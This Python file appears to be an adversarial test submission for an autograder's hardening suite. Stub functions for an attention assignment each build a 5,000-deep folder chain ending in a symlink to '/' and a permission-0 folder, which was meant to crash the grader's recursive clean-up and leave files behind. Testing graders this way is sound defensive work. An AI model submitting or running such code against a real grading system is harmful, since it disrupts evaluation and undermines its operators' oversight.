"""Attack (issue 28 E): nested folders, thousands deep, in the scratch folder. Without
namespaces (Docker's default profile, as on Gradescope) the scratch folder is a folder of the
run's file system, and the fork server's clean-up (shutil.rmtree, recursive) hit
RecursionError: "the grader itself failed — not your fault", score 0, the run folder left
on disk. Each call adds a 5 000-deep chain ending in a folder of mode 0 holding a file, and
a link to "/" that a remover must not follow."""

import os


def _deep_tree():
    made, why = 0, "the cap of this attack"
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.mkdir(f"deep-{os.getpid()}", dir_fd=fd)
        child = os.open(f"deep-{os.getpid()}", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
        for _ in range(5000):
            os.mkdir("d", dir_fd=fd)
            child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
            made += 1
        os.symlink("/", "root-link", dir_fd=fd)
        with open(os.open("kept.txt", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd), "w") as fh:
            fh.write("left behind?")
        os.mkdir("locked", 0, dir_fd=fd)  # no permission for anyone but root
    except OSError as exc:
        why = f"{type(exc).__name__} ({exc.strerror})"
    finally:
        os.close(fd)
    return f"deep tree: {made} nested folders made, stopped by {why}"


def project_qkv(x, w_q, w_k, w_v):
    raise RuntimeError(_deep_tree())


def attention_scores(q, k):
    raise RuntimeError(_deep_tree())


def scale_scores(scores, d_k):
    raise RuntimeError(_deep_tree())


def weighted_values(weights, v):
    raise RuntimeError(_deep_tree())


def causal_uniform_mean(x):
    raise RuntimeError(_deep_tree())
